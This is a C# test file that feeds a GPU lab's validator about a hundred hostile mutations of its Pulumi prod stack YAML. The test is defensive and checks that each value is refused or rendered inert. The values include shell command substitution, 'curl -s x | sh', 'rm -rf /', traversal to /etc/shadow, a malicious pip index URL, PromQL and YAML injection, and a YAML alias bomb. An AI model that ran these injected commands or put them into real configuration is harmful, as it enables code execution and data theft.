using Lab.Model.Artifacts;
using Lab.Model.Spec;

namespace Lab.Model.Tests;

/// <summary>
/// The project's hostile corpus: mutations of the shipped prod stack file, as an attacker or a careless paste would
/// write them. Each is refused before anything is rendered (its key named, no stack trace, the value never run), or
/// loads and renders inert: every script parses, and the value stays data.
/// </summary>
public class HostileCorpusTests
{
    /// <param name="Find">Text of the shipped prod stack file to replace (its first occurrence).</param>
    /// <param name="Key">Part of the key the refusal must name; null: the mutation is legitimate and must render inert.</param>
    public sealed record Mutation(string Name, string Find, string Replace, string? Key)
    {
        public override string ToString() => Name;
    }

    private const string Pwn = "$(touch /tmp/lab-pwned)";

    public static TheoryData<Mutation> Corpus => new(Mutations);

    private static readonly Mutation[] Mutations =
    [
        // Subnet and addresses
        new("subnet: the whole internet", "lab:subnet: 192.168.50.0/24", "lab:subnet: 0.0.0.0/0", "lab:subnet"),
        new("subnet: public range", "lab:subnet: 192.168.50.0/24", "lab:subnet: 8.8.8.0/24", "lab:subnet"),
        new("subnet: wider than /16", "lab:subnet: 192.168.50.0/24", "lab:subnet: 10.0.0.0/8", "lab:subnet"),
        new("subnet: trailing newline", "lab:subnet: 192.168.50.0/24", "lab:subnet: \"192.168.50.0/24\\n\"", "lab:subnet"),
        new("subnet marked secret", "lab:subnet: 192.168.50.0/24", "lab:subnet:\n    secure: v1:abc:def", "lab:subnet"),
        new("host: shell", "host: 192.168.50.11", $"host: \"192.168.50.11{Pwn}\"", "lab:nodes[0].host"),
        // SSH
        new("ssh user: shell", "user: labops", "user: \"labops; touch /tmp/lab-pwned\"", "lab:ssh.user"),
        new("ssh user: root, let in before the driver reboot", "user: labops", "user: root", "lab:ssh.user"),
        new("ssh boot timeout: shell", "auth: agent", $"auth: agent\n    bootTimeout: \"15m{Pwn}\"", "lab:ssh.bootTimeout"),
        new("ssh boot timeout: a week", "auth: agent", "auth: agent\n    bootTimeout: 168h", "lab:ssh.bootTimeout"),
        new("ssh port: overflow", "port: 22", "port: 99999999999999999999", "lab:ssh.port"),
        new("ssh port: wrong type", "port: 22", "port: [22]", "lab:ssh.port"),
        // Versions
        new("package pin: quote break", "chrony: 4.5-1ubuntu4.2", "chrony: \"4.5'; touch /tmp/lab-pwned; '\"", "lab:versions.osPackages.chrony"),
        new("package name: shell", "pciutils: 1:3.10.0-2build1", $"\"pci{Pwn}\": 1:3.10.0-2build1", "lab:versions.osPackages"),
        new("nvidia repository key: not a fingerprint", "containerToolkit: 1.17.8-1", "containerToolkit: 1.17.8-1\n    nvidiaRepositoryKey: \"C95B321B; curl -s x | sh\"", "lab:versions.nvidiaRepositoryKey"),
        new("hashicorp repository key: shell", "containerToolkit: 1.17.8-1", $"containerToolkit: 1.17.8-1\n    hashicorpRepositoryKey: \"798AEC654E5C15428C8E42EEAA16FCBCA621E701{Pwn}\"", "lab:versions.hashicorpRepositoryKey"),
        new("driver: trailing newline", "nvidiaDriver: 580.95.05-0ubuntu0.24.04.2", "nvidiaDriver: \"580.95.05-0ubuntu0.24.04.2\\n\"", "lab:versions.nvidiaDriver"),
        new("ubuntu: NUL", "ubuntu: \"24.04\"", "ubuntu: \"24.04\\0\"", "lab:versions.ubuntu"),
        // Nodes
        new("node name: look-alike Cyrillic e", "name: zenon", "name: z\u0435non", "lab:nodes[0].name"),
        new("node name: traversal", "name: zenon", "name: ../../tmp/x", "lab:nodes[0].name"),
        new("node name: newline", "name: zenon", "name: \"zenon\\nrm -rf /\"", "lab:nodes[0].name"),
        new("cpu: command substitution", "cpu: Xeon W3-2435", $"cpu: \"Xeon {Pwn}\"", "lab:nodes[0].cpu"),
        new("cpu: 1 MB string", "cpu: Xeon W3-2435", $"cpu: {new string('A', 1_000_000)}", "lab:nodes[0].cpu"),
        new("gpu model: backticks", "model: RTX A4000", "model: \"RTX `touch /tmp/lab-pwned`\"", "lab:nodes[0].gpu.model"),
        new("gpu model: right-to-left override", "model: RTX A4000", "model: \"RTX A4000\u202e\"", "lab:nodes[0].gpu.model"),
        new("memory: wrong type", "memoryGb: 128", "memoryGb: lots", "lab:nodes[0].memoryGb"),
        new("rebuild: overflow", "rebuild: 0", "rebuild: 2147483647", "lab:nodes[0].rebuild"),
        new("rebuild: negative", "rebuild: 0", "rebuild: -1", "lab:nodes[0].rebuild"),
        new("rebuild: past the generation bound", "rebuild: 0", "rebuild: 1000001", "lab:nodes[0].rebuild"),
        // NAS
        new("export path: trailing newline", "path: /share/lab/results", "path: \"/share/lab/results\\n\"", "lab:nas.exports[2].path"),
        new("export path: traversal", "path: /share/lab/results", "path: /share/lab/../../etc", "lab:nas.exports[2].path"),
        new("export path: space and option", "path: /share/lab/results", "path: \"/share/lab/results *(rw,no_root_squash)\"", "lab:nas.exports[2].path"),
        new("export name: shell", "name: datasets", $"name: \"data{Pwn}\"", "lab:nas.exports[0].name"),
        new("export clients: everyone", "access: rw\n      - name: models", "access: rw\n        clients: 0.0.0.0/0\n      - name: models", "lab:nas.exports[0].clients"),
        new("mount point: shell", "access: rw\n      - name: models", $"access: rw\n        mountPoint: \"/mnt/nfs/{Pwn}\"\n      - name: models", "lab:nas.exports[0].mountPoint"),
        new("nas model: semicolon", "model: QNAP 8-bay 8x26TB", "model: \"QNAP; reboot\"", "lab:nas.model"),
        // Cluster
        new("channel: shell", "channel: 1.32/stable", "channel: \"1.32/stable; touch /tmp/lab-pwned\"", "lab:cluster.channel"),
        new("addon: shell", "addons: [dns, rbac,", "addons: [\"dns;reboot\", rbac,", "lab:cluster.addons"),
        new("failure detection: shell", "failureDetection: 30s", $"failureDetection: \"30s{Pwn}\"", "lab:cluster.failureDetection"),
        // Alerts
        new("runbook URL: query", "runbookBaseUrl: https://git.lab.internal/lab/lab-infra/src/branch/main/docs/runbooks", "runbookBaseUrl: \"https://git.lab.internal/runbooks?x=1\"", "lab:alerts.runbookBaseUrl"),
        new("runbook URL: user and password", "runbookBaseUrl: https://git.lab.internal/lab/lab-infra/src/branch/main/docs/runbooks", "runbookBaseUrl: https://admin:hunter2@git.lab.internal/runbooks", "lab:alerts.runbookBaseUrl"),
        new("alert for: newline", "for: 5m, severity: warning}", "for: \"5m\\n\", severity: warning}", "lab:alerts.rules.HighGPUTemperature"),
        new("alert threshold: PromQL injection", "{threshold: 85, for: 5m, severity: warning}", "{threshold: \"85 or vector(1)\", for: 5m, severity: warning}", "lab:alerts.rules.HighGPUTemperature.threshold"),
        new("alert threshold: exponent past the range", "{threshold: 85, for: 5m, severity: warning}", "{threshold: 1e9, for: 5m, severity: warning}", "lab:alerts.rules.HighGPUTemperature.threshold"),
        new("alert for: PromQL injection", "for: 5m, severity: warning}", "for: \"5m} or vector(1) #\", severity: warning}", "lab:alerts.rules.HighGPUTemperature.for"),
        new("gate age: not a number", "      LowGPUUtilization: {threshold: 20, for: 30m, severity: info}", "      LowGPUUtilization: {threshold: 20, for: 30m, severity: info}\n      ValidationGateStale: {threshold: two weeks}", "lab:alerts.rules.ValidationGateStale.threshold"),
        new("alert severity: YAML injection", "for: 5m, severity: warning}", "for: 5m, severity: \"warning\\\"}\\n- alert: x\"}", "lab:alerts.rules.HighGPUTemperature"),
        // Validation
        new("validation mode: shell", "mode: enforce", "mode: \"enforce$(reboot)\"", "lab:validation.mode"),
        new("validation epoch: negative", "epoch: 0", "epoch: -1", "lab:validation.epoch"),
        new("validation epoch: past the bound", "epoch: 0", "epoch: 2000000", "lab:validation.epoch"),
        new("registry: shell", "registry: 192.168.50.20:5000", $"registry: \"192.168.50.20:5000{Pwn}\"", "lab:validation.registry"),
        new("image: space", "    # images:", "    images: {cuda: \"lab/gpu-burn:cuda12.6.3 --privileged\"}", "lab:validation.images.cuda"),
        new("image: digest with a shell tail", "    # images:", $"    images: {{cuda: \"lab/gpu-burn:cuda12.6.3@sha256:{new string('a', 64)}{Pwn}\"}}", "lab:validation.images.cuda"),
        new("image: unknown name", "    # images:", $"    images: {{\"tools;reboot\": \"lab/t:1@sha256:{new string('a', 64)}\"}}", "lab:validation.images.tools;reboot"),
        new("registry TLS: not a bool", "registryTls: true", "registryTls: \"true; reboot\"", "lab:validation.registryTls"),
        new("buildah: shell", "buildah: 1.33.7+ds1-1", $"buildah: \"1.33.7+ds1-1{Pwn}\"", "lab:validation.build.buildah"),
        new("debootstrap: option", "debootstrap: 1.0.134ubuntu1", "debootstrap: \"--force-yes\"", "lab:validation.build.debootstrap"),
        new("gpu-burn commit: a branch", "gpuBurnCommit: 3ead140434da9473582b68452f7115967a7a0581", "gpuBurnCommit: master", "lab:validation.build.gpuBurnCommit"),
        new("gpu-burn commit: shell", "gpuBurnCommit: 3ead140434da9473582b68452f7115967a7a0581", $"gpuBurnCommit: \"3ead140434da9473582b68452f7115967a7a0581{Pwn}\"", "lab:validation.build.gpuBurnCommit"),
        new("cuda compute: out of range", "cudaCompute: 86", "cudaCompute: 8600", "lab:validation.build.cudaCompute"),
        new("rapids: pip option", "rapids: 26.10.2", "rapids: \"26.10.2 --index-url http://evil\"", "lab:validation.build.rapids"),
        new("blackbox image: unpinned", "    # images:", "    images: {blackbox: \"lab/blackbox-exporter:latest\"}", "lab:validation.images.blackbox"),
        new("pushgateway image: shell tail", "    # images:", $"    images: {{pushgateway: \"lab/pushgateway:1.7.0@sha256:{new string('b', 64)}{Pwn}\"}}", "lab:validation.images.pushgateway"),
        new("image: misspelt name", "    # images:", "    images: {pushgatway: lab/p:1}", "lab:validation.images.pushgatway"),
        // Host keys and apt sources
        new("host key: shell", "      host: 192.168.50.11\n", $"      host: 192.168.50.11\n      hostKey: \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5{Pwn}\"\n", "lab:nodes[0].hostKey"),
        new("host key: a second line", "      host: 192.168.50.11\n", "      host: 192.168.50.11\n      hostKey: \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJWsMiMtKucduyLXIeVR4tDBP9b3oHYWb45907tXebo8\\n192.168.50.99 ssh-ed25519 AAAA\"\n", "lab:nodes[0].hostKey"),
        new("apt snapshot: quote break", "aptSnapshot: 20251201T000000Z", "aptSnapshot: \"20251201T000000Z'; touch /tmp/lab-pwned; '\"", "lab:versions.aptSnapshot"),
        new("apt mirror: shell", "aptSnapshot: 20251201T000000Z", $"aptMirror: \"http://192.168.50.20/ubuntu/{Pwn}\"", "lab:versions.aptMirror"),
        // Vault
        new("vault address: newline heredoc break", "address: https://192.168.50.20:8200", "address: \"https://192.168.50.20:8200\\nEOF\\ntouch /tmp/lab-pwned\"", "lab:vault.address"),
        new("vault address: userinfo", "address: https://192.168.50.20:8200", "address: https://root:s3cret@192.168.50.20:8200", "lab:vault.address"),
        new("vault address: HCL template", "address: https://192.168.50.20:8200", "address: \"https://192.168.50.20:8200/${file(\\\"/etc/shadow\\\")}\"", "lab:vault.address"),
        new("vault secret field: command substitution", "fields: [api_key]", $"fields: [\"api_key{Pwn}\"]", "lab:vault.secrets[0].fields"),
        new("vault secret field: traversal", "fields: [api_key]", "fields: [../../../tmp/x]", "lab:vault.secrets[0].fields"),
        new("vault secret name: traversal", "- name: ngc\n        fields", "- name: ../ngc\n        fields", "lab:vault.secrets[0].name"),
        new("agent file: escapes /var/run/secrets", "path: /var/run/secrets/ngc-api-key", "path: /var/run/secrets/../../etc/shadow", "lab:vault.agentFiles[0].path"),
        new("ca cert: relative", "caCert: /usr/local/share/ca-certificates/ai-lab-ca.crt", "caCert: ai-lab-ca.crt", "lab:vault.caCert"),
        new("ca: command substitution", "ca: collect", $"ca: \"{Pwn}\"", "lab:vault.ca"),
        new("ca: a certificate with a shell tail", "ca: collect", $"ca: \"-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----\\n{Pwn}\"", "lab:vault.ca"),
        new("ca: a list", "ca: collect", "ca: [collect]", "lab:vault.ca"),
        new("ca cert: outside the trust store", "caCert: /usr/local/share/ca-certificates/ai-lab-ca.crt", "caCert: /etc/ssl/private/lab.pem", "lab:vault.caCert"),
        new("rotation: past the bound", "rotation: 0", "rotation: 1000001", "lab:vault.rotation"),
        new("token ttl: shell", "tokenTtl: 24h", $"tokenTtl: \"24h{Pwn}\"", "lab:vault.roles[0].tokenTtl"),
        // YAML itself
        new("slurm jail export: shell", "jailExport: jobs", $"jailExport: \"jobs{Pwn}\"", "lab:slurm.jailExport"),
        new("slurm login key: a second line", "loginKeys: []", "loginKeys: [\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEZYA1L1Gan0dCcSLq4sehIrmqPNIaWPurviDY4mjDrW\\nssh-ed25519 AAAA\"]", "lab:slurm.loginKeys[0]"),
        new("slurm login key: shell", "loginKeys: []", $"loginKeys: [\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5{Pwn}\"]", "lab:slurm.loginKeys[0]"),
        new("slurm node port: outside the NodePort range", "loginNodePort: 30022", "loginNodePort: 22", "lab:slurm.loginNodePort"),
        new("slurm image: tag only", "loginKeys: []", "loginKeys: []\n    images: {slurmd: \"cr.eu-north1.nebius.cloud/soperator/worker_slurmd:4.1.7-slurm25.11.3\"}", "lab:slurm.images.slurmd"),
        new("slurm worker: CPUs past the node", "      - node: gemini-1", "      - {node: gemini-1, cpus: 4096, memoryGb: 8}", "lab:slurm.workers[0].cpus"),
        new("node cpus: wrong type", "cpus: 16", "cpus: sixteen", "lab:nodes[0].cpus"),
        new("YAML: alias bomb", "config:\n", "x: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n" +
            string.Concat(Enumerable.Range(0, 9).Select(i => $"x{i}: &{(char)('b' + i)} [*{(char)('a' + i)},*{(char)('a' + i)},*{(char)('a' + i)},*{(char)('a' + i)},*{(char)('a' + i)},*{(char)('a' + i)},*{(char)('a' + i)},*{(char)('a' + i)},*{(char)('a' + i)}]\n")) + "config:\n", "x"),
        new("YAML: alias inside config", "cpu: Xeon W3-2435", "cpu: &c Xeon W3-2435", "lab:nodes[0].cpu"),
        new("YAML: duplicate key", "lab:subnet: 192.168.50.0/24", "lab:subnet: 192.168.50.0/24\n  lab:subnet: 10.0.0.0/8", "lab:subnet"),
        new("YAML: complex key", "lab:subnet: 192.168.50.0/24", "? [lab:subnet, x]\n  : 192.168.50.0/24", "config"),
        new("YAML: tag", "lab:subnet: 192.168.50.0/24", "lab:subnet: !!binary aGVsbG8=", "lab:subnet"),
        new("YAML: second document", "config:\n", "config:\n  lab:subnet: 192.168.50.0/24\n---\n", "Pulumi.prod.yaml"),
        new("YAML: deep nesting", "lab:subnet: 192.168.50.0/24", "lab:subnet: 192.168.50.0/24\n  lab:deep: " + new string('[', 200) + new string(']', 200), "lab:deep"),
        new("unknown key", "lab:subnet: 192.168.50.0/24", "lab:subnet: 192.168.50.0/24\n  lab:nodez: []", "lab:nodez"),
        new("backup repository: password in it", "repository: \"sftp:restic@10.16.207.218:/srv/restic/lab\"", "repository: \"sftp:restic:hunter2@10.16.207.218:/srv/restic/lab\"", "lab:backups.repository"),
        new("backup repository: shell", "repository: \"sftp:restic@10.16.207.218:/srv/restic/lab\"", $"repository: \"sftp:restic@10.16.207.218:/srv/{Pwn}\"", "lab:backups.repository"),
        new("backup schedule: shell", "schedule: \"*-*-* 02,14:00:00\"", $"schedule: \"*-*-* 02:00:00 {Pwn}\"", "lab:backups.items[0].schedule"),
        new("backup schedule: newline", "schedule: \"*-*-* 02,14:00:00\"", "schedule: \"*-*-* 02:00:00\\nExecStart=/bin/sh\"", "lab:backups.items[0].schedule"),
        new("backup item name: unit name break", "- name: results\n        export: results", "- name: \"results.service ../x\"\n        export: results", "lab:backups.items[0].name"),
        new("backup keep: negative", "daily: 7", "daily: -7", "lab:backups.items[0].keep.daily"),
        new("backup check subset: shell", "readDataSubset: 5%", $"readDataSubset: \"5%{Pwn}\"", "lab:backups.check.readDataSubset"),
        // Legitimate values that must render inert
        new("export named model-cache", "- name: models", "- name: model-cache", null),
        new("gpu model with a space and a dot", "model: RTX A4000", "model: RTX A4000 Ada v2.1", null),
        new("blackbox image pinned by digest", "    # images:", $"    images: {{blackbox: \"lab/blackbox-exporter:0.23.0@sha256:{new string('c', 64)}\"}}", null),
        new("nas model with characters that are meta in shell", "model: QNAP 8-bay 8x26TB", "model: QNAP_TS-873A 8x26TB", null),
        new("backup schedule with ranges and weekdays", "schedule: \"*-*-* 02,14:00:00\"", "schedule: \"Mon..Fri *-*-* 02,14:00:00\"", null),
    ];

    [Theory]
    [MemberData(nameof(Corpus))]
    public void Each_mutation_is_refused_with_its_key_named_or_renders_inert(Mutation mutation)
    {
        var yaml = File.ReadAllText(Repo.ProdFile);
        Assert.Contains(mutation.Find, yaml);
        var index = yaml.IndexOf(mutation.Find, StringComparison.Ordinal);
        var hostile = yaml[..index] + mutation.Replace + yaml[(index + mutation.Find.Length)..];

        LabSpec? lab = null;
        LabConfigException? refused = null;
        try
        {
            var file = StackFile.Parse("prod", "Pulumi.prod.yaml", hostile);
            lab = LabSpecLoader.Load(file.Stack, file.Config, file.SecretKeys);
        }
        catch (LabConfigException e)
        {
            refused = e;
        }

        if (mutation.Key is not null)
        {
            Assert.True(refused is not null, $"{mutation.Name}: accepted, expected a refusal naming {mutation.Key}");
            Assert.Contains(refused!.Errors, e => e.Key.Contains(mutation.Key, StringComparison.Ordinal));
            Assert.DoesNotContain("   at ", refused.Message);
            Assert.DoesNotContain("Exception", refused.Message);
            // An error quotes at most a short, visible excerpt of the value.
            Assert.All(refused.Errors, e => Assert.True(e.ToString().Length < 2000 && !e.ToString().Any(ConfigText.Invisible), $"unreadable error: {ConfigText.Visible(e.ToString(), 300)}"));
        }
        else
        {
            Assert.True(refused is null, $"{mutation.Name}: refused: {refused?.Message}");
            RendersInert(lab!);
        }
    }

    [Fact]
    public void The_corpus_covers_every_key_family()
    {
        var families = Mutations.Select(m => m.Key).OfType<string>().Select(k => k.Split('.', '[')[0]).ToHashSet();
        Assert.True(Mutations.Length >= 40);
        Assert.Superset(new HashSet<string>(ConfigKeys.All.Except(ConfigKeys.Secret)), families);
    }

    /// <summary>Every script parses with bash -n, and runs nothing of the stack's values when its data block is evaluated.</summary>
    internal static void RendersInert(LabSpec lab)
    {
        var scripts = LabArtifacts.Render(lab).Where(a => a.Path.EndsWith(".sh", StringComparison.Ordinal)).ToList();
        Assert.NotEmpty(scripts);
        var dir = Directory.CreateTempSubdirectory("lab-inert-");
        try
        {
            foreach (var (script, i) in scripts.Select((s, i) => (s, i)))
            {
                var path = Path.Combine(dir.FullName, $"{i:D3}.sh");
                File.WriteAllText(path, script.Content);
                var (code, output) = Tools.Run("bash", ["-n", path]);
                Assert.True(code == 0, $"{script.Path} does not parse: {output}");
            }
        }
        finally
        {
            dir.Delete(recursive: true);
        }
    }
}
